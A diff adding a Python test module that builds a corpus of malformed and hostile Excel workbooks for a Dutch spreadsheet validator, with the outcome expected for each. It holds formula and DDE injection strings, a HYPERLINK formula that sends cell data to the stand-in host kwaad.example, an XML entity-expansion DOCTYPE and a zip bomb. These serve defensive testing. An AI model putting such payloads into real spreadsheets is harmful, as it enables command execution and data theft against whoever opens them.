@@ -1,0 +1,304 @@
+"""The corpus of bad inputs: files a coordinator may receive by e-mail, each built here from a
+valid workbook (never downloaded) with the exact outcome `validate` must give. tests/test_corpus.py
+runs validate and merge on every one; `python tests/corpus.py MAP` writes them out to look at.
+
+Outcomes: exit 2 with the start of the Dutch message (the file cannot be used), or exit 1 or 0
+with the finding codes (the file is read; what is wrong is named). The mistakes of everyday use
+(a renamed sheet, a moved column, a number as text...) are the faults in pa_sheets/faults.py,
+with their samples in samples/fouten/.
+"""
+
+import datetime as dt
+import sys
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from pa_sheets.faults import FAULT_ROW, Book
+
+OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+NOT_XLSX = "dit is geen Excel-werkmap (.xlsx); misschien een ander bestand met een andere extensie."
+OLD_OR_LOCKED = "dit is een oud Excel-bestand (.xls) of een werkboek met een wachtwoord."
+DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://kwaad.example/?"&A1,"Klik hier")',
+    "=cmd|' /C calc'!A0",
+    "+31 6 1234 5678",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+]
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    what: str
+    make: Callable[[Path, Path], None]  # (the valid filled workbook, the file to write)
+    exit: int
+    expect: str | tuple[str, ...]  # exit 2: start of the message; else the finding codes
+
+
+def rezip(source: Path, target: Path, change: Callable[[str, bytes], bytes | None], extra=()):
+    """Copy a workbook part by part; `change` returns new content (None drops the part);
+    `extra` adds (name, content) parts."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for item in old.infolist():
+            content = change(item.filename, old.read(item))
+            if content is not None:
+                new.writestr(item.filename, content)
+        for name, content in extra:
+            new.writestr(name, content)
+
+
+def edited(edit: Callable[[Book], None]) -> Callable[[Path, Path], None]:
+    """A maker that edits the workbook with openpyxl, as a spreadsheet user would."""
+
+    def make(source: Path, target: Path) -> None:
+        import openpyxl
+
+        book = Book(openpyxl.load_workbook(source))
+        edit(book)
+        book.workbook.save(target)
+
+    return make
+
+
+# -- not a workbook ---------------------------------------------------------------------------
+
+
+def _encrypted(source: Path, target: Path) -> None:
+    """What Excel writes for a workbook with a password: an OLE container, not a zip."""
+    streams = "EncryptionInfo EncryptedPackage".encode("utf-16-le")
+    target.write_bytes(OLE_MAGIC + b"\0" * 504 + streams + b"\0" * 2048)
+
+
+# -- dangerous --------------------------------------------------------------------------------
+
+
+def doctype_in(part: str) -> Callable[[Path, Path], None]:
+    def make(source: Path, target: Path) -> None:
+        def change(name: str, content: bytes) -> bytes:
+            if name != part:
+                return content
+            if content.startswith(b"<?xml"):
+                end = content.index(b"?>") + 2
+                return content[:end] + DOCTYPE + content[end:]
+            return DOCTYPE + content
+
+        rezip(source, target, change)
+
+    return make
+
+
+def _macro(source: Path, target: Path) -> None:
+    rezip(source, target, lambda name, content: content, [("xl/vbaProject.bin", b"\0" * 512)])
+
+
+def _zip_bomb(source: Path, target: Path) -> None:
+    rezip(source, target, lambda name, content: content, [("xl/media/x.bin", b"\0" * 2**28)])
+
+
+def _external_link(source: Path, target: Path) -> None:
+    """A formula source in another workbook, as Excel stores it: a part, its relationship,
+    and references from the workbook (pa-sheets reads the target, never opens it)."""
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    link = (
+        f'<externalLink xmlns="{main}" xmlns:r="{rels}"><externalBook r:id="rId1">'
+        '<sheetNames><sheetName val="Blad1"/></sheetNames></externalBook></externalLink>'
+    )
+    link_rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{rels}/externalLinkPath" '
+        'Target="file:///C:/Begroting/geheim.xlsx" TargetMode="External"/></Relationships>'
+    )
+
+    def change(name: str, content: bytes) -> bytes:
+        text = content.decode()
+        if name == "xl/_rels/workbook.xml.rels":
+            text = text.replace(
+                "</Relationships>",
+                f'<Relationship Id="rIdExt1" Type="{rels}/externalLink" '
+                'Target="externalLinks/externalLink1.xml"/></Relationships>',
+            )
+        elif name == "xl/workbook.xml":
+            text = text.replace(
+                "</sheets>",
+                '</sheets><externalReferences><externalReference r:id="rIdExt1"/>'
+                "</externalReferences>",
+            )
+        elif name == "[Content_Types].xml":
+            text = text.replace(
+                "</Types>",
+                '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
+                'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
+                "</Types>",
+            )
+        return text.encode()
+
+    rezip(
+        source,
+        target,
+        change,
+        [
+            ("xl/externalLinks/externalLink1.xml", link),
+            ("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels),
+        ],
+    )
+
+
+def _megabyte_text(book: Book) -> None:
+    words = ("huur", "woning", "wijk", "buurt", "corporatie", "gemeente", "plan", "jaar")
+    text = " ".join(words[(i * 7 + i // 3) % len(words)] + str(i % 97) for i in range(110_000))
+    book.new_row("BS Linde", afspraak=text[: 1024 * 1024])
+
+
+def _formula_injection(book: Book) -> None:
+    """New afspraken with hostile text in the toelichting, typed as text, and one live DDE
+    formula where the bijdrage goes."""
+    for offset, text in enumerate(HOSTILE_TEXTS, start=FAULT_ROW):
+        book.new_row("BT Linde", offset=offset, nummer=f"BT-{80 + offset}", toelichting=text)
+        cell = book.workbook["BT Linde"][book.cell("BT Linde", "nieuw", "toelichting", offset)]
+        cell.data_type = "s"  # openpyxl takes '=...' for a formula; a user typed text
+    book.put("BT Linde", "nieuw", "bijdrage", "=cmd|' /C calc'!A0", FAULT_ROW)
+
+
+# -- tampered templates ----------------------------------------------------------------------
+
+
+def _sheets_reordered(book: Book) -> None:
+    book.workbook.move_sheet("SW Linde", offset=-12)
+    book.workbook.move_sheet("Toelichting", offset=5)
+
+
+def _meta_removed(book: Book) -> None:
+    del book.workbook["_meta"]
+
+
+def _meta_edited(book: Book) -> None:
+    book.workbook["_meta"]["B1"] = "begroting"
+
+
+def _merged_cells(book: Book) -> None:
+    """Cells merged over a new afspraak: only the first keeps its value."""
+    start = book.cell("VD Linde", "nieuw", "afspraak", 0)
+    end = book.cell("VD Linde", "nieuw", "type", 0)
+    book.workbook["VD Linde"].merge_cells(f"{start}:{end}")
+
+
+def _hidden_rows(book: Book) -> None:
+    block = book.block("BT Linde", "going_concern")
+    for row in range(block.first_row, block.last_row + 1):
+        book.workbook["BT Linde"].row_dimensions[row].hidden = True
+
+
+def _date_1904(book: Book) -> None:
+    """The Mac date system: day 0 is 1 January 1904. A date typed in the planning must still
+    be read as the same day."""
+    from openpyxl.utils.datetime import CALENDAR_MAC_1904
+
+    book.workbook.epoch = CALENDAR_MAC_1904
+    book.new_row("BS Linde", planning=dt.datetime(2028, 6, 30))
+
+
+def _only_spaces(book: Book) -> None:
+    book.new_row("AG Linde", afspraak="     ")
+
+
+CASES = [
+    Case("leeg.xlsx", "0 bytes", lambda s, t: t.write_bytes(b""), 2, "het bestand is leeg"),
+    Case("csv.xlsx", "CSV met .xlsx", lambda s, t: t.write_text("nummer;afspraak\n"), 2, NOT_XLSX),
+    Case("pdf.xlsx", "PDF met .xlsx", lambda s, t: t.write_bytes(b"%PDF-1.7\n%..."), 2, NOT_XLSX),
+    Case(
+        "afgebroken.xlsx",
+        "half verstuurd",
+        lambda s, t: t.write_bytes(s.read_bytes()[:5000]),
+        2,
+        "het bestand is beschadigd of onvolledig",
+    ),
+    Case(
+        "oud.xls",
+        "Excel 97-2003",
+        lambda s, t: t.write_bytes(OLE_MAGIC + b"\0" * 2048),
+        2,
+        OLD_OR_LOCKED,
+    ),
+    Case("versleuteld.xlsx", "met wachtwoord", _encrypted, 2, OLD_OR_LOCKED),
+    Case(
+        "zipbom.xlsx",
+        "256 MB aan nullen",
+        _zip_bomb,
+        2,
+        "onderdeel xl/media/x.bin pakt verdacht sterk uit",
+    ),
+    Case(
+        "entiteiten-in-blad.xlsx",
+        "entiteiten in een werkblad",
+        doctype_in("xl/worksheets/sheet2.xml"),
+        2,
+        "onderdeel xl/worksheets/sheet2.xml bevat een DOCTYPE-declaratie",
+    ),
+    Case(
+        "entiteiten-in-werkboek.xlsx",
+        "entiteiten in workbook.xml",
+        doctype_in("xl/workbook.xml"),
+        2,
+        "onderdeel xl/workbook.xml bevat een DOCTYPE-declaratie",
+    ),
+    Case("macro.xlsm", "met vbaProject", _macro, 2, "het werkboek bevat macro's"),
+    Case(
+        "externe-koppeling.xlsx", "koppeling naar een ander bestand", _external_link, 1, ("S030",)
+    ),
+    Case("tekst-van-1-mb.xlsx", "een afspraak van 1 MB", edited(_megabyte_text), 1, ("V005",)),
+    Case(
+        "formule-injectie.xlsx", "=cmd|, +, -, @ en DDE", edited(_formula_injection), 1, ("V010",)
+    ),
+    Case(
+        "bladen-verwisseld.xlsx", "tabbladen in andere volgorde", edited(_sheets_reordered), 0, ()
+    ),
+    Case(
+        "meta-verwijderd.xlsx",
+        "_meta weggehaald",
+        edited(_meta_removed),
+        2,
+        "geen werkboek van pa-sheets (het verborgen blad _meta ontbreekt)",
+    ),
+    Case(
+        "meta-gewijzigd.xlsx",
+        "soort in _meta veranderd",
+        edited(_meta_edited),
+        2,
+        "onbekende soort werkboek 'begroting'",
+    ),
+    Case(
+        "samengevoegde-cellen.xlsx",
+        "cellen samengevoegd over een afspraak",
+        edited(_merged_cells),
+        1,
+        ("V001",),
+    ),
+    Case("verborgen-rijen.xlsx", "rijen verborgen", edited(_hidden_rows), 0, ()),
+    Case("datum-1904.xlsx", "datumsysteem 1904 (Mac)", edited(_date_1904), 0, ()),
+    Case(
+        "alleen-spaties.xlsx", "een afspraak van alleen spaties", edited(_only_spaces), 1, ("V001",)
+    ),
+]
+
+
+def build(source: Path, folder: Path) -> dict[str, Path]:
+    """Write every case into `folder`; return name -> path."""
+    folder.mkdir(parents=True, exist_ok=True)
+    paths = {}
+    for case in CASES:
+        case.make(source, folder / case.name)
+        paths[case.name] = folder / case.name
+    return paths
+
+
+if __name__ == "__main__":
+    root = Path(__file__).resolve().parent.parent
+    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path("corpus")
+    build(root / "samples" / "ingevuld" / "jaarschijf-2027-voorbeeldstad-linde.xlsx", out)
+    print(f"{len(CASES)} bestanden in {out}")
